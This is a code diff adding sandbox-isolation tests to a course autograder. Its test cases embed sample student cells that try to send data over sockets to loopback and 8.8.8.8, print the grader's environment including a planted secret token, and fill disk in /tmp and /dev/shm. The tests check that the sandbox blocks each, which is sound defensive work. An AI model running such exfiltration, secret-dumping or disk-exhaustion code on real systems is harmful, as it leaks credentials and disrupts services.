@@ -5,18 +5,55 @@ from __future__ import annotations
 
 import csv
 import json
+import os
+import socket
+import threading
 from pathlib import Path
 
 import nbformat
 import pytest
 
 from coursekit.grade_class import GradeOptions, grade_class
-from coursekit.grade_sandbox import GiB, Limits, bwrap_problem
+from coursekit.grade_sandbox import GiB, MiB, Limits, bwrap_problem
 from coursekit.nbgrader_course import Course
 from coursekit.sources import read_source
+from coursekit.gradecheck import with_answers
 from tests.grader_cases import A, TINY, Case, bad_input_class, with_cell_after, solved, notebooks, w, write_class
 
-LIMITS = Limits(cell_timeout_s=5, notebook_timeout_s=15, memory_bytes=int(1.5 * GiB))
+LIMITS = Limits(cell_timeout_s=5, notebook_timeout_s=15, memory_bytes=int(1.5 * GiB),
+                folder_bytes=64 * MiB, tmp_bytes=64 * MiB, shm_bytes=16 * MiB, file_bytes=64 * MiB)
+SECRET = "ck-test-secret-4d1e8c"  # placed in the grader's environment, like an instructor's cloud token
+
+
+class Listener:
+    """A TCP service on the grading machine's loopback, as an instructor's Jupyter or database would be."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    self.received.append(conn.recv(1000) or b"<connected>")
+                except OSError:
+                    self.received.append(b"<connected>")
+
+    def close(self):
+        self.stop.set()
+        self.thread.join(5)
+        self.sock.close()
 
 
 @pytest.fixture(scope="module")
@@ -43,11 +80,35 @@ def graded(tmp_path_factory):
         slow = with_cell_after(slow, "task1_tests", "import time\ntime.sleep(3)")
     cases["slow"] = Case(w(slow), 0, "timed_out")
     # duplicates: an older blank notebook at the top level, a newer solved one in a folder
+    # a correct answer whose own code warns while the tests call it: full marks, the warning shown
+    warns = with_answers(good, {"task1_solution": "import warnings\n\ndef double(x):\n"
+                                                  "    warnings.warn('double() is deprecated', DeprecationWarning)\n"
+                                                  "    import numpy as np\n    np.float64(1) / np.float64(0)  # RuntimeWarning\n"
+                                                  "    return x + x"}, {"task1_solution"})
+    cases["warns_in_tests"] = Case(w(warns), 3, "graded")
+    # the network: a loopback service of the grading machine, and the outside world
+    listener = Listener()
+    net = ("import socket\nnet = []\n"
+           f"for host, port in [('127.0.0.1', {listener.port}), ('localhost', {listener.port}), ('8.8.8.8', 53)]:\n"
+           "    try:\n        s = socket.create_connection((host, port), timeout=2)\n"
+           "        s.sendall(b'exfiltrated hidden tests')\n        net.append((host, 'CONNECTED'))\n"
+           "    except OSError as e:\n        net.append((host, type(e).__name__))\nprint('NET', net)")
+    cases["network"] = Case(w(with_cell_after(good, "task1_solution", net)), 3, "graded")
+    # the grader's environment
+    cases["environ"] = Case(w(with_cell_after(good, "task1_solution",
+                                              "import os\nprint('ENV', dict(os.environ))")), 3, "graded")
+    # disk: 200 MiB into its own folder, 200 MiB into /tmp and /dev/shm (limits: 64, 64, 16 MiB)
+    hog = ("import os\nhit = []\nfor folder in ['.', '/tmp', '/dev/shm']:\n    try:\n"
+           "        with open(os.path.join(folder, 'hog.bin'), 'wb') as f:\n"
+           "            for _ in range(200):\n                f.write(b'x' * 2**20)\n"
+           "        hit.append((folder, 'wrote 200 MiB'))\n    except OSError as e:\n"
+           "        hit.append((folder, e.strerror))\nprint('DISK', hit)\n"
+           "raise OSError(28, 'No space left on device')  # the row must say so")
+    cases["disk_hog"] = Case(w(with_cell_after(good, "task1_solution", hog)), 3, "graded")
     cases["dup_old"] = Case(w(release), 0, "replaced", path="dup.ipynb")
     cases["dup"] = Case(w(good), 3, "graded")
     folder = tmp / "class"
     write_class(folder, cases)
-    import os
     os.utime(folder / "dup.ipynb", (1_700_000_000, 1_700_000_000))
     (folder / "__MACOSX").mkdir()
     (folder / "__MACOSX" / "._ok.ipynb").write_bytes(b"\x00\x05")
@@ -55,9 +116,54 @@ def graded(tmp_path_factory):
     (folder / "zed").mkdir()
     (folder / "zed" / "notes.pdf").write_bytes(b"%PDF-1.4")
     logs: list[str] = []
-    report = grade_class(GradeOptions(A, folder, out, source=TINY, jobs=2, limits=LIMITS, progress=False), logs.append)
+    os.environ["COURSEKIT_TEST_TOKEN"] = SECRET  # the worker processes inherit it, as from an instructor's shell
+    try:
+        report = grade_class(GradeOptions(A, folder, out, source=TINY, jobs=2, limits=LIMITS, progress=False), logs.append)
+    finally:
+        os.environ.pop("COURSEKIT_TEST_TOKEN", None)
+        listener.close()
     del cases["dup_old"]
+    report.listener_received = listener.received
     return cases, report, out, forbidden, logs
+
+
+def _printed(out: Path, student: str) -> str:
+    nb = nbformat.read(out / "course" / "autograded" / student / A / f"{A}.ipynb", as_version=4)
+    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
+
+
+def test_warnings_cost_no_points_and_stay_visible(graded):
+    _, report, out, _, _ = graded
+    row = report.rows["warns_in_tests"]
+    assert (row.score, row.tests["task1_tests"]) == (3, 1), row
+    assert "double() is deprecated" in _printed(out, "warns_in_tests"), "the warning must stay visible"
+    assert any("wrote to stderr in" in f and "no points lost" in f for f in row.flags), row.flags
+
+
+def test_student_code_reaches_no_network(graded):
+    _, report, out, _, _ = graded
+    assert report.listener_received == [], f"a kernel reached a loopback service: {report.listener_received}"
+    printed = _printed(out, "network")
+    assert "NET [" in printed and "CONNECTED" not in printed, printed[-500:]
+
+
+def test_the_graders_environment_reaches_no_output(graded):
+    _, report, out, _, _ = graded
+    assert "ENV {" in _printed(out, "environ")
+    leaks = [p for p in out.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
+    assert leaks == [], f"the grader's secret appears in {leaks}"
+    env = _printed(out, "environ").split("ENV ", 1)[1]
+    assert "'HOME': '/tmp'" in env and "COURSEKIT" not in env
+
+
+def test_disk_writes_stop_at_the_limits_and_the_row_says_so(graded):
+    _, report, out, _, _ = graded
+    printed = _printed(out, "disk_hog")
+    assert "DISK [" in printed and "wrote 200 MiB" not in printed, printed[-500:]
+    assert printed.count("No space left on device") >= 3, printed[-500:]
+    row = report.rows["disk_hog"]
+    assert row.score == 3 and any("reached a disk limit" in f for f in row.flags), row.flags
+    assert report.rows["ok"].status == "graded" and report.rows["ok"].flags == []
 
 
 
